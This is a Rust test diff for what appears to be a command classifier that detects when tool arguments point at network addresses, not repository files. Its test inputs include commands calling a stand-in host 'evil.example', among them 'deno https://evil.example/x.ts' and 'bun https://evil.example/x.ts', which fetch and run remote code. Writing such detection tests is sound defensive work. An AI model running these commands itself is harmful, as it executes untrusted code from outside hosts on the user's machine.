@@ -46,6 +46,24 @@ fn what_is_put_into_a_folder_keeps_its_name() {
 }
 
 #[test]
+fn an_address_is_no_file_of_the_repository() {
+    check(&[
+        ("go tool pprof -top -base=a.out cpu.out", "only held <a.out <cpu.out"),
+        ("go tool pprof -top -base=evil.example:1/x a", "only held !4 <evil.example:1/x <a"),
+        ("go tool pprof -top -base http://e/x a", "only held !4 <!http://e/x <a"),
+        ("go tool pprof -top evil.example:1/x", "only held !4 <evil.example:1/x"),
+        ("xmllint --schema=a.xsd a.xml", "only <a.xsd <a.xml"),
+        ("xmllint --schema=http://e/x a.xml", "only <!http://e/x <a.xml"),
+        ("xmllint http://e/x", "only <!http://e/x"),
+        ("deno a.ts", "code deep <a.ts"),
+        ("deno https://evil.example/x.ts", "code deep ?all"),
+        ("deno npm:evil/x.ts", "code deep ?all"),
+        ("bun https://evil.example/x.ts", "code deep ?all"),
+        ("node --test https://evil.example/x.ts", "code deep ?all"),
+    ]);
+}
+
+#[test]
 fn coverage_starts_python() {
     check(&[
         ("coverage run -m pytest -q", "code ^3"),
